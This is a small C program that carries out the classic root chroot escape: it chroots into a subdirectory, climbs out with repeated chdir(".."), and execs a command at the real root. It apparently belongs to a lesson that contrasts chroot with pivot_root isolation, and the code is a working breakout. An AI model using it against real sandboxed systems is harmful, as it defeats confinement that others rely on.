/*
 * The classic chroot escape, run as root inside a chroot (step04):
 * chroot(2) into a subdirectory without chdir(2), so that the working
 * directory is left outside the new root; climb with chdir(".."), which
 * stops only at the real root; then chroot(".") there and exec ARGV.
 * pivot_root(2) in a mount namespace (final/) leaves nothing to climb to.
 *
 * Usage: chroot-escape CMD [ARG...]
 */
#define _GNU_SOURCE
#include <err.h>
#include <errno.h>
#include <sys/stat.h>
#include <unistd.h>

int
main(int argc, char *argv[])
{
    int i;

    if (argc < 2)
        errx(2, "usage: chroot-escape CMD [ARG...]");
    if (mkdir("/.escape", 0700) == -1 && errno != EEXIST)
        err(2, "mkdir /.escape");
    if (chroot("/.escape") == -1)
        err(2, "chroot /.escape");
    for (i = 0; i < 256; i++)
        if (chdir("..") == -1)
            err(2, "chdir ..");
    if (chroot(".") == -1)
        err(2, "chroot .");
    execv(argv[1], &argv[1]);
    err(2, "exec %s", argv[1]);
}
